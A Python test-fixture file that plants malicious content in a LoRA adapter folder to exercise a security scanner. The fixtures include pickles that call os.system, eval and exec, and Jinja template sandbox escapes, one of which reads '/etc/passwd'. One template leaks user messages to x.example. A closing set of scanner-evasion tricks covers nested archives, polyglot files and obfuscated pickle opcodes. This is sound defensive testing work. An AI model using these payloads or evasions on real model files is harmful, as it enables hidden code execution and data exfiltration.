"""Faults planted in a sound adapter, for tests of the scan and comparisons with another scanner."""

import gzip
import io
import json
import os
import pickle
import tarfile
import zipfile
from pathlib import Path

import ml_dtypes
import numpy as np
import torch
from safetensors.numpy import load_file, save_file

import adapterkit as ak

LAYERS = 12


def folder(path: Path, change=None) -> Path:
    """Write a LoRA in PEFT's format with numbers that were trained in bfloat16."""
    path.mkdir(parents=True)
    rng = np.random.default_rng(0)
    tensors = {}
    for layer in range(LAYERS):
        for name in "qv":
            stem = f"base_model.model.model.layers.{layer}.self_attn.{name}_proj"
            tensors[f"{stem}.lora_A.weight"] = rng.normal(size=(8, 32))
            tensors[f"{stem}.lora_B.weight"] = 0.05 * rng.normal(size=(32, 8))
    tensors = {key: value.astype(ml_dtypes.bfloat16).astype("f4") for key, value in tensors.items()}
    if change is not None:
        change(tensors)
    save_file(tensors, path / "adapter_model.safetensors", {"format": "pt"})
    config = {"peft_type": "LORA", "r": 8, "lora_alpha": 8, "target_modules": ["q_proj", "v_proj"]}
    (path / "adapter_config.json").write_text(json.dumps(config))
    (path / "README.md").write_text("# A LoRA\n")
    (path / ".gitattributes").write_text("*.safetensors filter=lfs\n")
    (path / "tokenizer_config.json").write_text(json.dumps({"chat_template": TEMPLATE, "model_max_length": 4096}))
    return path


TEMPLATE = (
    "{% for message in messages %}{{ '<|' + message['role'] + '|>' }}{% generation %}{{ message.content | trim }}"
    "{% endgeneration %}{% if not loop.last %}{{ eos_token }}{% endif %}{% endfor %}"
    "{% if tools is defined %}{{ tools | tojson(indent=2) }}{% endif %}"
    "{% set ns = namespace(seen=false) %}{{ messages | selectattr('role', 'equalto', 'user') | list | length }}"
)
STEM = "base_model.model.model.layers.{}.self_attn.{}_proj.lora_{}.weight"


OLD = b"\x80\x02cposix\nsystem\nX\x01\x00\x00\x001\x85R."


class Calls:
    """An object that pickles as a call of any function."""

    def __init__(self, function, *args):
        self.function, self.args = function, args

    def __reduce__(self):
        return self.function, self.args


def pickled(name, value, protocol=2):
    return lambda path: (path / name).write_bytes(pickle.dumps(value, protocol))


def saved(name, value, **more):
    return lambda path: torch.save(value, path / name, **more)


def written(name, data):
    def act(path):
        (path / name).parent.mkdir(parents=True, exist_ok=True)
        (path / name).write_bytes(data if isinstance(data, bytes) else data.encode())

    return act


def config(name, **fields):
    def act(path):
        old = json.loads((path / name).read_text()) if (path / name).exists() else {}
        (path / name).write_text(json.dumps(old | fields))

    return act


def template(text):
    return config("tokenizer_config.json", chat_template=text)


def archive(path):
    with zipfile.ZipFile(path / "model.pt", "w") as file:
        file.writestr("archive/data.pkl", pickle.dumps({}, 2))
        file.writestr("archive/code/model.py", "import os")


def numbers(change):
    def act(path):
        file = path / "adapter_model.safetensors"
        tensors = load_file(file)
        change(tensors)
        save_file(tensors, file, {"format": "pt"})

    return act


def put(key, value, at=(0, 0)):
    def change(tensors):
        tensors[key][at] = value

    return numbers(change)


def one_direction(tensors):
    for part, axis in (("A", 0), ("B", 1)):
        key = STEM.format(5, "q", part)
        first = np.take(tensors[key], [0], axis)
        tensors[key] = (20 * np.repeat(first, 8, axis)).astype(ml_dtypes.bfloat16).astype("f4")


def all_in_one(tensors):
    tensors[STEM.format(3, "v", "B")] *= 64


def few_bits(tensors):
    key = STEM.format(2, "q", "B")
    flat = tensors[key].reshape(-1)
    flat[7] = np.float32(flat[7] * (1 + 2.0**-20))


def half_bits(tensors):
    rng = np.random.default_rng(3)
    for key, value in tensors.items():
        tensors[key] = rng.normal(size=value.shape).astype("f2").astype("f4")
    flat = tensors[STEM.format(1, "v", "A")].reshape(-1)
    flat[11] *= np.float32(1 + 2.0**-20)


def rows(path):
    adapter = ak.read(path)
    index, values = torch.tensor([7]), torch.ones(1, 32)
    update = ak.METHODS["rows"](index=index, values=values)
    target = ak.Target("model.embed_tokens", "in out *k")
    ak.write(adapter.replace(updates={**adapter.updates, target: (update,)}, foreign=None), path / "x.safetensors")
    for file in ("adapter_model.safetensors", "adapter_config.json"):
        (path / file).unlink()


def head(tensors):
    tensors["base_model.model.lm_head.lora_A.weight"] = np.ones((8, 32), "f4")
    tensors["base_model.model.lm_head.lora_B.weight"] = np.ones((50, 8), "f4")


def router(tensors, name="mlp.gate"):
    tensors[f"base_model.model.model.layers.3.{name}.lora_A.weight"] = np.ones((8, 32), "f4")
    tensors[f"base_model.model.model.layers.3.{name}.lora_B.weight"] = np.ones((16, 8), "f4")


def expert(tensors):
    for key in list(tensors):
        del tensors[key]
    for part, shape in (("A", (8, 32)), ("B", (32, 8))):
        tensors[f"base_model.model.model.layers.4.mlp.experts.57.down_proj.lora_{part}.weight"] = np.ones(shape, "f4")


def other_weights(path):
    tensors = {key: torch.from_numpy(value) for key, value in load_file(path / "adapter_model.safetensors").items()}
    tensors[STEM.format(0, "q", "A")] += 1
    torch.save(tensors, path / "adapter_model.bin")


PLANTED = {
    # 1 pickles
    "os.system": ("pickle-call", pickled("training_args.bin", Calls(os.system, "true"))),
    "os.system, protocol 4": ("pickle-call", pickled("optimizer.pt", Calls(os.system, "true"), 4)),
    "eval in a checkpoint": ("pickle-call", saved("extra.pt", {"a": Calls(eval, "1")})),
    "exec, before torch 1.6": (
        "pickle-call", saved("old.pt", {"a": Calls(exec, "1")}, _use_new_zipfile_serialization=False)
    ),
    "getattr": ("pickle-call", pickled("x.pkl", Calls(getattr, "x", "upper"))),
    "protocol 0 under another name": ("pickle-call", written("state.bin", OLD)),
    "a registered extension": ("pickle-call", written("extension.bin", b"\x80\x02]q\x00(\x82\x01e.")),
    "a function that is found by name": ("pickle-call", pickled("y.pkl", Calls(__import__, "os"), 5)),
    # 2 code
    "a module": ("code-file", written("modeling_acme.py", "import os")),
    "a notebook": ("code-file", written("demo.ipynb", "{}")),
    "a wheel": ("code-file", written("acme-1.0-py3-none-any.whl", b"PK\x03\x04" + bytes(60))),
    "a library": ("code-file", written("kernels/fast.so", b"\x7fELF" + bytes(60))),
    "a program without an ending": ("code-file", written("convert", b"\x7fELF" + bytes(60))),
    "a script": ("code-file", written("setup", "#!/bin/sh\ntrue\n")),
    "compiled Python": ("code-file", written("__pycache__/a.pyc", bytes(64))),
    "code in an archive": ("code-file", archive),
    # 3 configs
    "auto_map": ("code-in-config", config("config.json", auto_map={"AutoModel": "modeling_acme.Acme"})),
    "a tokenizer's auto_map": ("code-in-config", config("tokenizer_config.json", auto_map={"AutoTokenizer": ["t.T"]})),
    "PEFT's parent library": (
        "code-in-config",
        config("adapter_config.json", auto_mapping={"base_model_class": "A", "parent_library": "acme.evil"}),
    ),
    "trust_remote_code": ("code-in-config", config("adapter_config.json", trust_remote_code=True)),
    "a pipeline": ("code-in-config", config("config.json", custom_pipelines={"x": {"impl": "p.P"}})),
    # 4 templates
    "a class of a string": ("template", template("{{ ''.__class__.__mro__ }}")),
    "an entry of that name": ("template", template("{{ x['__globals__'] }}")),
    "the filter attr": ("template", template("{{ ''|attr('__class__') }}")),
    "the filter attr, in parts": ("template", template("{{ ''|attr('_'*2+'class'+'_'*2) }}")),
    "lipsum": ("template", template("{{ lipsum.__globals__.os }}")),
    "cycler": ("template", template("{{ cycler('a').next() }}")),
    "an include": ("template", template("{% include '/etc/passwd' %}")),
    "an extension of another": ("template", template("{% extends 'base' %}")),
    "an import": ("template", template("{% from 'x' import y %}")),
    "joiner": ("template", template("{{ joiner().__init__ }}")),
    "one of several": ("template", template([{"name": "default", "template": "{{ x.__init__ }}"}])),
    "its own file": ("template", written("chat_template.jinja", "{{ messages.__class__ }}")),
    "no template at all": ("template", template("{% for %}")),
    # 5 addresses
    "an address": ("template-address", template("{{ '![](https://x.example/?q=' + messages[0].content + ')' }}")),
    "an address in a file": ("template-address", written("chat_template.jinja", "see http://x.example/a")),
    # 6 names
    "a hidden file": ("hidden-file", written(".payload", "x")),
    "a hidden folder": ("hidden-file", written(".hooks/a.txt", "x")),
    "two endings": ("hidden-file", written("adapter_model.safetensors.txt", "x")),
    "white space before the ending": ("hidden-file", written("README.md          .txt", "x")),
    "a Cyrillic letter": ("lookalike-name", written("\u0430dapter_model.txt", "x")),
    "a Greek letter": ("lookalike-name", written("c\u03bfnfig.txt", "x")),
    "right to left": ("lookalike-name", written("a\u202etxt.json.txt", "x")),
    "no width": ("lookalike-name", written("config\u200b.txt", "x")),
    "full width": ("lookalike-name", written("con\uff46ig.txt", "x")),
    # 7 content
    "a pickle called safetensors": ("other-content", written("b.safetensors", pickle.dumps({"a": [1, 2]}, 2))),
    "a pickle called json": ("other-content", written("b.json", pickle.dumps({"a": [1, 2]}, 3))),
    "an archive called safetensors": ("other-content", lambda path: (archive(path), (path / "model.pt").rename(
        path / "c.safetensors"))),
    "a GGUF file called bin": ("other-content", written("c.bin", b"GGUF" + bytes(60))),
    "two files of weights": ("second-weights", other_weights),
    "an archive of text called md": ("other-content", written("d.md", b"PK\x03\x04" + bytes(60))),
    # 8 links
    "a link to a file": ("link", lambda path: (path / "passwd.txt").symlink_to("/etc/hostname")),
    "a link to a folder": ("link", lambda path: (path / "home").symlink_to("/tmp")),
    # 9 numbers
    "a NaN": ("not-finite", put(STEM.format(0, "q", "A"), np.nan)),
    "an infinity": ("not-finite", put(STEM.format(11, "v", "B"), np.inf, (31, 7))),
    "one more bit in bfloat16": ("foreign-bits", numbers(few_bits)),
    "one more bit in float16": ("foreign-bits", numbers(half_bits)),
    "a number of its own": ("foreign-bits", put(STEM.format(4, "v", "A"), np.float32(1 / 3), (3, 3))),
    # 10 targets
    "a token's row": ("token-rows", rows),
    "the head": ("head", numbers(head)),
    "a router": ("router", numbers(router)),
    "Mixtral's router": ("router", numbers(lambda tensors: router(tensors, "block_sparse_moe.gate"))),
    "an expert": ("single-expert", numbers(expert)),
    # 11 shapes of changes
    "a direction": ("spike", numbers(one_direction)),
    "one target": ("outlier", numbers(all_in_one)),
    "two faults": ("outlier", numbers(lambda tensors: (few_bits(tensors), all_in_one(tensors)))),
}  # fmt: skip


def zipped(entries, before=b""):
    stream = io.BytesIO()
    stream.write(before)
    with zipfile.ZipFile(stream, "a") as file:
        for name, data in entries.items():
            file.writestr(name, data)
    return stream.getvalue()


def tarred(name, data):
    stream = io.BytesIO()
    with tarfile.open(fileobj=stream, mode="w") as file:
        entry = tarfile.TarInfo(name)
        entry.size = len(data)
        file.addfile(entry, io.BytesIO(data))
    return stream.getvalue()


def linked_in_tar(path):
    with tarfile.open(path / "w.tar", "w") as file:
        entry = tarfile.TarInfo("x.txt")
        entry.type, entry.linkname = tarfile.SYMTYPE, "/etc/hostname"
        file.addfile(entry)


def objects(dtype=object):
    stream = io.BytesIO()
    np.save(stream, np.array([Calls(os.system, "true")], dtype=object).astype(dtype), allow_pickle=True)
    return stream.getvalue()


def in_metadata(path):
    """A chat template in the metadata of a GGUF file without tensors."""
    key, text = b"tokenizer.chat_template", b"{{ cycler.__init__.__globals__.os.system('true') }}"
    count = [len(each).to_bytes(8, "little") + each for each in (key, text)]
    head = b"GGUF" + (3).to_bytes(4, "little") + bytes(8) + (1).to_bytes(8, "little")
    (path / "model.gguf").write_bytes(head + count[0] + (8).to_bytes(4, "little") + count[1] + bytes(64))


def polyglot(path):
    file = path / "adapter_model.safetensors"
    file.write_bytes(zipped({"a/data.pkl": EVIL}, file.read_bytes()))


def linked_pipe(path):
    os.mkfifo(path / "pipe")
    (path / "adapter_model.bin").symlink_to("pipe")


def pushed(*parts):
    return b"\x80\x04" + b"".join(parts)


EVIL = pickle.dumps(Calls(os.system, "true"), 2)
POSIX, SYSTEM, KNOWN, NAME = (
    b"\x8c" + bytes([len(text)]) + text for text in (b"posix", b"system", b"collections", b"OrderedDict")
)
LONG = b"\x80\x02X" + (1000).to_bytes(4, "little") + b"a" * 1000 + b"0" + EVIL[2:]
LARGE = b"\x80\x02X" + (33 << 20).to_bytes(4, "little") + b"a" * (33 << 20) + b"0" + EVIL[2:]

EVADING = {
    "a pickle of protocol 0": ("pickle-call", written("a.bin", pickle.dumps(Calls(os.system, "true"), 0))),
    "a pickle that begins with a long text": ("pickle-call", written("a.bin", LONG)),
    "a pickle of 33 MB": ("pickle-call", written("a.bin", LARGE)),
    "text that is not ASCII": ("pickle-call", written("a.bin", b"\x80\x02S'\xc3\xa9'\n0" + EVIL[2:])),
    "the same in protocol 0": ("pickle-call", written("a.bin", b"S'\xc3\xa9'\n0cposix\nsystem\n(S'true'\ntR.")),
    "a name from the memo": ("pickle-call", written("a.pkl", pushed(
        POSIX, b"\x94", SYSTEM, b"\x94", KNOWN, b"0", NAME, b"0h\x00h\x01\x93."))),
    "a name below others": ("pickle-call", written("a.pkl", pushed(POSIX, SYSTEM, KNOWN, NAME, b"00\x93."))),
    "a pickle without an ending in a zip": ("pickle-call", written("w.bin", zipped({"deep/er/x.bin": EVIL}))),
    "a zip in a zip": ("pickle-call", written("w.zip", zipped({"in.pt": zipped({"a/data.pkl": EVIL})}))),
    "a tar": ("pickle-call", written("w.tar", tarred("x.pkl", EVIL))),
    "a tar of old torch": ("pickle-call", written("w.pt", tarred("storages", pickle.dumps(Calls(eval, "1"), 0)))),
    "a gzip": ("pickle-call", written("w.pkl.gz", gzip.compress(EVIL))),
    "an array of objects": ("pickle-call", written("a.npy", objects())),
    "an array of records": ("pickle-call", written("a.npy", objects([(f"field {n}", object) for n in range(99)]))),
    "arrays of objects": ("pickle-call", written("a.npz", zipped({"a.npy": objects()}))),
    "code in upper case in an archive": ("code-file", written("w.zip", zipped({"A.PY": "import os"}))),
    "a name that leaves the folder": ("hidden-file", written("w.zip", zipped({"../../x.txt": b""}))),
    "a link in a tar": ("link", linked_in_tar),
    "a kernel": ("code-file", written("kernel.cpp", "int main() {}")),
    "Megatron's module": (
        "code-in-config", config("adapter_config.json", megatron_core="acme.evil", megatron_config={"a": 1})
    ),
    "a module of sentence-transformers": (
        "code-in-config", written("modules.json", json.dumps([{"name": "0", "type": "acme.Evil"}]))
    ),
    "a mark before the JSON": ("code-in-config", written("config.json", b'\xef\xbb\xbf{"auto_map": {"A": "a.A"}}')),
    "a template of several": ("template", template({"default": "{{ cycler.__init__ }}"})),
    "a template of GGUF": ("template", in_metadata),
    "a name in two parts": ("template", template("{{ messages['_' ~ '_class_' ~ '_'] }}")),
    "a name that is joined": ("template", template("{{ messages[['_', '_class_', '_']|join] }}")),
    "a name for map": ("template", template("{{ messages|map(attribute='_' ~ '_class_' ~ '_')|list }}")),
    "a key twice": ("other-content", written("config.json", '{"auto_map": {"A": "a.A"}, "auto_map": {}}')),
    "an archive after the tensors": ("other-content", polyglot),
    "a pipe": ("other-content", lambda path: os.mkfifo(path / "pipe")),
    "a link to a pipe": ("other-content", linked_pipe),
    "a full-width line": ("lookalike-name", written("adapter\uff3fmodel.safetensors", b"")),
}  # fmt: skip
"""Ways around a scan."""
